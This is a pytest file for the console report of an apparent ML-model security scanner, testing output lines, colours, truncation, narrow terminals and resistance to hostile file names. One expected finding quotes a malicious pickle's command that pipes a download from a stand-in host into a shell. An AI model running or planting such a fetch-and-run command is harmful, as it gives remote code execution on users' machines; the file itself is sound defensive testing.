"""What a terminal and a pipe get."""

from __future__ import annotations

import re

import pytest

from mlgate.reports import console
from tests.builders import verdicts, verdicts_hostile
from tests.reports.pages import INVISIBLE, RUNNER

ANSI = re.compile(r"\x1b\[[0-9;]*m")


def test_a_pipe_gets_a_line_a_finding_and_the_next_step_last() -> None:
    lines = console.render(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT).splitlines()
    assert lines[0] == (
        "models/resnet.pt: critical MLG-PKL-001 blocks: "
        "Loading calls `os.system('curl -s https://evil.example/x | sh')` (in archive/data.pkl, byte 124)"
    )
    assert lines[1].startswith("requirements.txt:3: high MLG-DEP-001 blocks: ")
    assert lines[2] == "    fix: torch==2.6.0"
    assert "FAIL: Blocked: 2 findings to fix before merge, 1 warning." in lines
    assert lines[-1].startswith("Next: models/resnet.pt: Remove the file.")
    assert "`mlgate rules MLG-PKL-001`" in lines[-1]


def test_a_clean_run_claims_no_safety() -> None:
    lines = console.render(verdicts.inventory(), verdicts.clean(), verdicts.CONTEXT).splitlines()
    assert lines[0] == "PASS: Passed: nothing to block or warn about."
    assert lines[-1].startswith("No known indicator found does not mean safe")


@pytest.mark.parametrize("name", verdicts_hostile.NAMES)
@pytest.mark.parametrize("width", [0, 50, 200])
def test_names_move_no_cursor_and_command_no_runner(name: str, width: int) -> None:
    made, inventory = verdicts_hostile.hostile(name), verdicts_hostile.hostile_inventory(name)
    text = (
        console.rich(inventory, made, verdicts.CONTEXT, width=width, color=False)
        if width
        else console.render(inventory, made, verdicts.CONTEXT)
    )
    assert not INVISIBLE.search(text)
    assert not RUNNER.search(text)


def test_colours_only_when_asked_for() -> None:
    given = (verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    coloured = console.rich(*given, width=100, color=True)
    assert ANSI.search(coloured)
    plain = console.rich(*given, width=100, color=False)
    assert ANSI.sub("", coloured) == plain
    assert all(len(line) <= 100 for line in plain.splitlines())


def test_a_flood_is_a_screenful() -> None:
    text = console.rich(verdicts.inventory(), verdicts.many(3_000), verdicts.CONTEXT, width=120, color=False)
    assert "and 2,950 more: MLG-COD-004" in text
    assert len(text.splitlines()) < 400


@pytest.mark.parametrize(("width", "columns"), [(80, 3), (120, 4)])
def test_a_narrow_terminal_has_a_column_less_and_everything_in_it(width: int, columns: int) -> None:
    text = console.rich(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT, width=width, color=False)
    heading = text.splitlines()[1]
    assert len([part for part in heading.split("┃") if part.strip()]) == columns
    assert "models/resnet.pt" in text
    assert "byte 124" in text


def test_a_fix_can_be_copied_from_one_line() -> None:
    text = console.rich(verdicts.inventory(), verdicts.three(), verdicts.CONTEXT, width=60, color=False)
    assert '    AutoModel.from_pretrained("acme/encoder", revision="<40-character commit>")' in text.splitlines()


def test_a_terminal_without_unicode_gets_ascii() -> None:
    given = (verdicts.inventory(), verdicts.three(), verdicts.CONTEXT)
    assert console.rich(*given, width=80, color=False, boxes=False).isascii()
